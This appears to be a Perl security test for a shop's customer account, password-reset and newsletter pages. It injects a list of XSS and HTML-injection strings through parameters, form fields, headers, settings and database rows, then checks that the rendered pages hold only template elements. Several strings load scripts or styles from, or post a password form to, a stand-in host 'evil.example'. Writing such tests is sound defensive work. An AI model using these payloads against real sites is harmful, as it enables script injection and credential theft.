#!/usr/bin/perl
# Whatever stands in a link, a form, a header, a setting or a row is text on the
# pages: Python's html.parser finds the elements and attributes of the templates
# and no others.
use strict;
use warnings;
use utf8;
use Encode qw(encode_utf8);
use FindBin;
use lib "$FindBin::Bin/lib";
use Customers::Database;
use Customers::Page;
use Customers::Test;
use Test::More;

my @strings = (
	'<script>alert(1)</script>', '</script><script>alert(1)</script>',
	'<ScRiPt src=//evil.example/x.js></sCrIpT>', '<script/x>alert(1)',
	'<<script>alert(1)//<</script>', '<script>alert`1`</script>',
	'"><script>alert(1)</script>', "'><script>alert(1)</script>",
	'--><script>alert(1)</script>', ']]><script>alert(1)</script>',
	'</title><script>alert(1)</script>', '</style><script>alert(1)</script>',
	'</textarea><script>alert(1)</script>', '</noscript><img src=x onerror=a>',
	'<img src=x onerror=alert(1)>', '"><img src=x onerror=alert(1)>',
	"'><img src=x onerror=alert(1)>", '<img/src="x"/onerror=alert(1)>',
	'<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<svg onload=alert(1)>',
	'<svg/onload=alert(1)//', '<svg><script>alert&#40;1)</script>',
	'<svg><animate onbegin=alert(1) attributeName=x>',
	'<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
	'<body onload=alert(1)>', '<iframe src=javascript:alert(1)>',
	'<iframe srcdoc="<script>alert(1)</script>">', '<object data=x>',
	'<embed src=javascript:alert(1)>', '<base href=//evil.example/>',
	'<meta http-equiv=refresh content="0;url=//evil.example/">',
	'<link rel=stylesheet href=//evil.example/x.css>',
	'<form action=//evil.example/><input name=password>',
	'"><form action=//evil.example/>', '<button formaction=//evil.example/>',
	'<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>',
	'<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>',
	'<marquee onstart=alert(1)>', '<a href=javascript:alert(1)>x</a>',
	'<a href="data:text/html,<script>alert(1)</script>">x</a>',
	'<style>*{background:url(//evil.example/)}</style>',
	'<div style="background:url(//evil.example/)">',
	'" onmouseover="alert(1)', "' onmouseover='alert(1)",
	'" autofocus onfocus="alert(1)" x="', '" style="x:y', '` onclick=`x',
	'x onclick=alert(1)', "\" \n onclick\n=\nalert(1)", "\"\tonclick=x\t",
	'&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)',
	'&#x3c;script&#x3e;', '&quot; onclick=&quot;x', '&', '&amp', '<', '>',
	'"', "'", '<!--', '-->', '<!DOCTYPE x>', '<?php phpinfo() ?>', '<%= x %>',
	'{{content}}', '{{nonce}}', '{{form}}', '{{', '}}', '${7*7}', '%3Cscript%3E',
	'%253Cscript%253E', "\x{FF1C}script\x{FF1E}", "\x{2028}<b>\x{2029}",
	"\x{202E}<b>", 'javascript:alert(1)', 'jav&#x09;ascript:alert(1)',
	"<scr\x{AD}ipt>", '+ADw-script+AD4-', '<b>' x 200,
);
cmp_ok(scalar(@strings), '>=', 60, 'strings');

my $shop = new_shop(pages => 1);
my $db = Customers::Database->new($shop);
my $answer = http_request($shop->{port}, 'POST', '/rest/V1/customers',
    json => { %{customer(email => "o'<&\">x\@example.com" =~ tr/<>"//dr)},
	password => undef });
is($answer->{status}, 200, 'an account') or die($answer->{raw});
my $id = $answer->{json}{id};
my ($key, $token, $code) = map { $_ x 32 } qw(k t c);
$shop->sql("UPDATE customer_entity SET confirmation = '$key',
    rp_token = SHA2('$token', 256), rp_token_created_at = NOW();
    INSERT INTO newsletter_subscriber (subscriber_id, store_id,
    subscriber_email, subscriber_status, subscriber_confirm_code)
    VALUES (7, 1, 'x\@example.com', 2, '$code')",
    "--database=$shop->{database}");

my %link = (
	confirm => "/customer/account/confirm/?id=$id&key=$key",
	password => "/customer/account/createPassword/?id=$id&token=$token",
	account => '/customer/account/?',
	forgot => '/customer/account/forgotpassword/?',
	subscribe => "/newsletter/subscriber/confirm/?id=7&code=$code",
	unsubscribe => "/newsletter/subscriber/unsubscribe/?id=7&code=$code",
);
my $type = ['Content-Type', 'application/x-www-form-urlencoded'];

sub ask
{
	my ($method, $path, %arg) = @_;

	return http_request($shop->{port}, $method, $path, %arg);
}

sub escaped
{
	return encode_utf8($_[0]) =~ s/([^A-Za-z0-9])/sprintf('%%%02X', ord($1))/ger;
}

# The forms of pages as they are once, tickets among them.
my %form = map { $_ => form_of(ask('GET', $link{$_})) } keys(%link);

# A way in: what is asked with a string; with "shown", what the page shows.
my @ways;
my %names = (
	confirm => [qw(id key back_url nonsense)],
	password => [qw(id token)],
	account => ['id'],
	forgot => ['id'],
	subscribe => [qw(id code)],
	unsubscribe => [qw(id code)],
);
for my $page (sort(keys(%link))) {
	for my $name (@{$names{$page}}) {
		push @ways, ["$page, $name", sub {
			return ask('GET', $link{$page} =~
			    s/([?&])$name=[^&]*/$1/r . "&$name=" .
			    escaped($_[0]));
		}];
	}
	push @ways, ["$page, name of a parameter", sub {
		return ask('GET', "$link{$page}&" . escaped($_[0]) . '=1');
	}];
	for my $field ($page eq 'account' ? () : qw(form want email)) {
		push @ways, ["$page, field $field", sub {
			return ask('POST', $link{$page}, headers => $type, body =>
			    form_body({ %{$form{$page}}, want => 'nothing',
			    $field => $_[0] }));
		}];
	}
}
push @ways, ['typed e-mail', sub {
	return ask('POST', $link{forgot}, headers => $type, body => form_body({
	    %{$form{forgot}}, email => $_[0] . 'x' }));
}, 'fields'], ['new password', sub {
	return ask('POST', $link{password}, headers => $type, body =>
	    form_body({ %{$form{password}}, password => " $_[0]" }));
}];
for my $header ('Origin', 'Sec-Fetch-Site', 'X-Request-Id', 'User-Agent',
    'Accept-Language', 'Referer', 'Cookie', 'X-Forwarded-Host') {
	push @ways, ["header $header", sub {
		return ask('GET', $link{confirm}, headers => [$header,
		    encode_utf8($_[0]) =~ s/[\r\n]/ /gr]);
	}];
}
push @ways, ['store in the path', sub {
	# nginx splits the path after it has decoded it.
	return ask('GET', '/' . escaped($_[0] =~ s{/}{}gr) . $link{confirm});
}];
for (['general/store_information/name', 'account', 'text'],
    ['customers/pages/signin_text', 'account', 'text'],
    ['customers/pages/logo', 'account'], ['general/locale/code', 'account'],
    ['trans_email/ident_support/email', 'confirm'],
    ['web/secure/base_url', 'account'],
    ['customers/links/account', 'account']) {
	my ($path, $page, $shown) = @$_;
	push @ways, ["setting $path", sub {
		my $value = encode_utf8($_[0]) =~ s/([\\'])/\\$1/gr;
		$value = 'http://x/' . $value if $path =~ /url$/;
		$db->lines("REPLACE INTO core_config_data (scope, scope_id, path,
		    value) VALUES ('default', 0, '$path', '$value')");
		my $got = ask('GET', $link{$page});
		$db->lines("DELETE FROM core_config_data WHERE path = '$path'");
		return $got;
	}, $shown];
}
push @ways, ['the e-mail of an account', sub {
	my $value = encode_utf8($_[0]) =~ s/([\\'])/\\$1/gr;
	$db->lines("UPDATE customer_entity SET email = LEFT('$value', 200)");
	return ask('GET', $link{confirm});
}, 'text'], ['the e-mail of a subscriber', sub {
	my $value = encode_utf8($_[0]) =~ s/([\\'])/\\$1/gr;
	$db->lines("UPDATE newsletter_subscriber
	    SET subscriber_email = LEFT('$value', 200)");
	return ask('GET', $link{unsubscribe});
}, 'text'], ['the e-mail at the password', sub {
	my $value = encode_utf8($_[0]) =~ s/([\\'])/\\$1/gr;
	$db->lines("UPDATE customer_entity SET email = LEFT('$value', 200)");
	return ask('GET', $link{password});
}, 'text'];

my $count = 0;
for my $way (@ways) {
	my ($name, $ask, $shown) = @$way;
	my @answers = map { $ask->($_) } 'x', @strings;
	my @faults = grep { $_->{status} >= 500 } @answers;
	my @pages = page_parse(map { $_->{body} // '' } @answers);
	my ($sample, @strange) = (shift(@pages));
	my %plain = (join("\n", @{$sample->{shape}}) => 1);

	for my $i (0 .. $#pages) {
		my $page = $pages[$i];
		$count++;
		# Without a link, or with one that is no good, and with a logo.
		my @other = grep { !/^(?:html|head|meta|link|title|style|body|header|
		    main|footer|h1|p|a|strong|form|input|label|button|ul|li|
		    script|img|br|code)(?:\ [a-z-]+)*$/x } @{$page->{shape}};
		my @handlers = grep { / on[a-z]+| style| formaction| srcdoc/ }
		    @{$page->{shape}};
		my @scripts = grep { /^script/ } @{$page->{shape}};
		my @images = grep { /^img/ } @{$page->{shape}};
		push @strange, "$strings[$i]: @other @handlers"
		    if @other || @handlers || @scripts > 1 || @images > 1 ||
		    (grep { !/^script nonce$/ } @scripts) ||
		    (grep { /^(?:link|meta)/ } @{$page->{shape}}) > 4 ||
		    (grep { !/^img src alt$/ } @images) ||
		    grep { m{^(?!https?://|mailto:|customer/|/)\S} &&
		    /^\s*(?:javascript|data|jav)/i } @{$page->{links}};
		if ($shown) {
			my $wanted = join(' ', split(' ', $strings[$i]));
			my $got = $shown eq 'text' ? $page->{text} :
			    join(' ', split(' ', $page->{fields}{email} // ''));
			push @strange, "$strings[$i]: not as text: $got"
			    if index($got, substr($wanted, 0, 150)) < 0;
		}
		push @strange, "$strings[$i]: another shape" if
		    $name !~ /logo|base_url|locale|, (?:id|key|token|code|field)|
			name\ of|account$|header/x &&
		    !$plain{join("\n", @{$page->{shape}})};
	}
	ok(!@faults, "$name: no fault") or diag(substr($faults[0]{raw}, 0, 500));
	ok(!@strange, "$name: nothing but the template's elements") or
	    diag(map { encode_utf8("$_\n") } @strange[0 .. ($#strange < 3 ?
	    $#strange : 3)]);
}
figure(scalar(@strings) . ' strings, ' . scalar(@ways) . " ways in, $count pages");
done_testing();
